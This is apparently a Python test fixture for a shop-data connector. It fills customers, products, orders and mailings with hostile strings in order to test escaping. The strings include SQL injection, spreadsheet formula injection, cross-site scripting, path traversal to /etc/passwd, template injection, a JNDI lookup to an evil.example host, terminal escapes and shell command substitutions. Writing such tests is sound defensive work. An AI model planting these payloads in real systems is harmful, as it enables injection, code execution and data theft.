"""Names and texts as nobody wishes to meet them, and a shop that is full of them."""

from __future__ import annotations

from datetime import datetime, timedelta
from decimal import Decimal

from connector.sandbox.shop import Cart, Customer, Line, Mailing, Product, Purchase, Shop

ESCAPE = "\x1b[2J\x1b]0;owned\x07\x1b[31mred"
TEXTS = (
    "Lo, the comma",
    'the "quoted" one',
    "it's O'Brien; DROP TABLE contacts; --",
    "☕️ 👩‍👩‍👧‍👦 🇩🇪",
    "x" * 300,
    '=HYPERLINK("http://evil.example","click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tafter a tab",
    "\rafter a return",
    "＝1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>\"'><svg/onload=alert(1)>",
    "</td></table><h1>Owned</h1>",
    "]]><!--",
    "../../../etc/passwd",
    "..",
    "a/b?c=d#e%2e%2e",
    ESCAPE,
    "\x9b31m csi",
    "nul\x00byte",
    "two\nlines",
    "שלום עולם",
    "\u202egnp.exe",
    "\u2066isolated\u2067",
    "zero\u200bwidth\u200djoiner\ufeff",
    "line\u2028separator",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{{ config.__class__ }}",
    "*|FNAME|*",
    "${jndi:ldap://evil.example/a}",
    "$\\frac{1}{0}$ $x_{",
    "[bold red]markup[/bold red] [/nothing] [link=http://evil.example]here[/link]",
    "%s %d %n {0} {name}",
    "a" * 10_000,
    "\\",
    ":smile: :x:",
    "'",
    '"',
    "| md | table | `code` [a](http://evil.example)",
)
BORN = datetime(2026, 1, 5, 8)
LOCALS = (
    "plain", "o'brien", "a+b", "=1+1", "-x", "x/y", "..", "a%2fb", "a?b", "a#b", "{{x}}", "a&b=c", "*", "`id`", "$(id)", "|x|", "ü",
)  # fmt: skip


def customers(names: tuple[str, ...] = TEXTS) -> list[Customer]:
    """One customer a text, who has it for a name, a company, a city, a tag and a note on every platform."""
    found = []
    for n, text in enumerate(names):
        local = LOCALS[n % len(LOCALS)]
        tag = text.replace(",", " ").strip()[:40] or "x"
        found.append(
            Customer(
                f"h{n:03d}",
                f"{local}{n}@shop.example",
                BORN + timedelta(days=n),
                BORN + timedelta(days=n),
                first_name=text,
                last_name=text[::-1],
                city=text[:60],
                region=text[:20],
                postcode=text[:10],
                consent={"mailchimp": "subscribed", "shopify": "SUBSCRIBED", "hubspot": "opted_in"},
                consent_at={"mailchimp": BORN, "shopify": BORN},
                tags={"mailchimp": [tag], "shopify": [tag]},
                extra={"mailchimp": {"NOTE": text[:200]}, "hubspot": {"jobtitle": text, "industry": text}},
            )
        )
    return found


def shop(names: tuple[str, ...] = TEXTS, name: str = "<b>Böse & Söhne</b> \u202e{{ 7*7 }}") -> Shop:
    people = customers(names)
    products = [Product(f"p{n}", text[:250], text[:100], text[:60], Decimal(10)) for n, text in enumerate(names)]
    purchases = [
        Purchase(
            f"o{n}-{k}", c.customer_id, datetime(2026, 10, 1 + k, 12), Decimal(30),
            [Line(f"p{n}", names[n][:250], names[n][:100], 1, Decimal(30))],
            on=frozenset(("shopify", "hubspot")), code=names[n][:50],
            source={"landing_page": f"https://shop.example/{names[n][:50]}", "utm_campaign": names[n][:50]},
        )
        for n, c in enumerate(people) for k in range(2)
    ]  # fmt: skip
    mailings = [
        Mailing(
            f"c{n}", text[:90], text[:90], datetime(2026, 11, 1, 9),
            recipients=[c.customer_id for c in people],
            opens=[(people[n].customer_id, datetime(2026, 11, 2, 9), False)],
            clicks=[(people[n].customer_id, datetime(2026, 11, 2, 9), f"https://shop.example/{text[:80]}")],
            unsubscribes=[],
        )
        for n, text in enumerate(names[:6])
    ]  # fmt: skip
    carts = [
        Cart(
            "k1", people[0].customer_id, datetime(2026, 11, 10), Decimal(5), [Line("p1", names[1], names[1][:9], 1, Decimal(5))]
        )
    ]
    return Shop(name, "EUR", "UTC", people, products, purchases, mailings, carts=carts)
